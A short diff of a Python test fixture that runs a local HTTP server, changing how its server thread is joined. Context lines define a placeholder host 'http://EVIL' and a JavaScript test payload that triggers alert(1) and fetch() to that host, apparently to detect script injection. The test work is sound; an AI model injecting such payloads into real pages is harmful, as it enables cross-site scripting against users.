@@ -10,6 +10,8 @@ from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from threading import Thread
 from typing import Any
 
+from tests.limits import join
+
 PLACE = "http://EVIL"
 """In a payload: where it would call home."""
 RAN = f"top.ran=window.ran=1;document.title='ran';alert(1);fetch('{PLACE}/fetched')"
@@ -144,7 +146,7 @@ def evil() -> Iterator[Evil]:
         yield made
     finally:
         server.shutdown()
-        thread.join()
+        join(thread)
         server.server_close()
 
 
